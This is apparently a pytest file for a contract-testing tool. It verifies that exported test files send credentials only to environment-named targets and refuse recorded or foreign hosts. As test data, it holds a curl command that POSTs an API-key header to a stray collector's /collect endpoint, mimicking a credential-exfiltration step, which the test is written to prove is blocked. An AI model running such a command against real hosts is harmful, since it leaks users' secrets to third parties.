"""Where an exported test file (`--export-tests`) sends the user's credentials: only to a target named in the
environment, as `shop-contract replay` does (tests/contract_tests/run/test_replay_targets.py).

The file is written from a report, which may be anyone's (a CI artifact of a fork's pull request): a target
it records, or a setup step's absolute URL on another host, must get nothing while SHOP_CONTRACT_API_KEY and
SHOP_CONTRACT_TOKEN are set. Real processes: the file run by plain pytest in a subprocess (no plugin of the
suite), the mock under uvicorn, a collector socket on another loopback port recording every connection.
"""

from __future__ import annotations

import os
import subprocess
import sys
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from pathlib import Path

import pytest

from contract_tests.outcome import export_tests
from contract_tests.outcome.findings import Violation
from contract_tests.outcome.fingerprint import violation_id
from contract_tests.spec import Spec
from tests.support.elsewhere import GATEWAY_MOUNT, MOUNT, SECRETS, Collector, Counted
from tests.support.live import running

CREDENTIALS = "-H 'X-API-Key: [Filtered]' -H 'Authorization: [Filtered]'"


@pytest.fixture(scope="module")
def mock() -> Iterator[tuple[str, Counted]]:
    counted = Counted()
    with running(counted) as origin:
        yield origin, counted


def listing(base: str, marker: str, setup: tuple[str, ...] = ()) -> Violation:
    """A recorded violation of `list_product_lines` under `base`, its request marked by `?marker=` (after
    `setup`)."""
    curl = f"curl -X GET {CREDENTIALS} '{base}/productlines/?marker={marker}'"
    return Violation("status_code_conformance", "backend", "list_product_lines", marker, curl, "", setup)


def outcomes(exported: Path, env: dict[str, str]) -> dict[str, str]:
    """Each test of the exported file run by plain pytest with `env` (and the user's credentials): "passed",
    or its failure's message."""
    junit = exported.parent / "junit.xml"
    command = [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", f"--junitxml={junit}", str(exported)]
    environ = {"PATH": os.environ["PATH"], "PYTEST_DISABLE_PLUGIN_AUTOLOAD": "1", **SECRETS, **env}
    ran = subprocess.run(command, capture_output=True, text=True, env=environ, cwd=exported.parent, timeout=120)
    assert ran.returncode in (0, 1), ran.stdout[-3000:] + ran.stderr
    found = {}
    for case in ET.parse(junit).getroot().iter("testcase"):
        failure = case.find("failure")
        found[case.attrib["name"].removeprefix("test_violation_")] = (
            "passed" if failure is None else failure.attrib["message"]
        )
    return found


def test_the_exported_tests_send_credentials_only_to_the_target_the_environment_names(
    collector: Collector, mock: tuple[str, Counted], tmp_path: Path
) -> None:
    origin, counted = mock
    recorded = {"backend": collector.origin + MOUNT, "gateway": collector.origin + GATEWAY_MOUNT}
    stray = Collector()  # a host no target of the report is on, named by a setup step
    try:
        elsewhere = f"curl -X POST -H 'X-API-Key: [Filtered]' -d '{{}}' {stray.origin}/collect"
        on_the_gateway = f"curl -X GET {CREDENTIALS} '{recorded['gateway']}/customers/?page=1'"
        moved = listing(recorded["backend"], "moved")
        refused = listing(recorded["backend"], "refused", (elsewhere,))
        other_surface = listing(recorded["backend"], "gateway", (on_the_gateway,))
        violations = [moved, refused, other_surface]
        exported = export_tests.write(violations, recorded, Spec.load(), tmp_path)
        ids = {v.rule: violation_id(v) for v in violations}

        unnamed = outcomes(exported, {})
        assert collector.received == [] and stray.received == [], "the report's hosts got a connection"
        assert counted.requests == 0
        for name in ids.values():
            assert unnamed[name] == (
                "Failed: set SHOP_CONTRACT_BASE_URL to the backend's base URL: the credentials are sent only to a "
                "target named in the environment, never to the one this file records"
            )

        backend_only = outcomes(exported, {"SHOP_CONTRACT_BASE_URL": origin + MOUNT})
        assert backend_only[ids["moved"]] == "passed"
        port = stray.origin.rsplit(":", 1)[1]
        assert backend_only[ids["refused"]] == (
            f"Failed: a recorded request goes to http://127.0.0.1:{port}, which is not the target being tested "
            "(SHOP_CONTRACT_BASE_URL, SHOP_CONTRACT_GATEWAY_URL): refused, nothing sent"
        )
        assert backend_only[ids["gateway"]].startswith(
            f"Failed: a recorded request goes to {collector.origin}, which is not the target being tested"
        ), "a step of the gateway, whose URL is not given, is refused"

        both = {"SHOP_CONTRACT_BASE_URL": origin + MOUNT, "SHOP_CONTRACT_GATEWAY_URL": origin + GATEWAY_MOUNT}
        assert outcomes(exported, both)[ids["gateway"]] == "passed"
        assert collector.received == [] and stray.received == [], "the report's hosts got a connection"
    finally:
        stray.close()
    sent = counted.targets
    marked = [target.rsplit("=", 1)[1] for target in sent if "marker=" in target]
    assert marked == ["moved", "moved", "gateway"], f"a refused test sent its request: {sent}"
    assert "/customers/v1/customers/?page=1" in sent, "the gateway's step went to the gateway given"
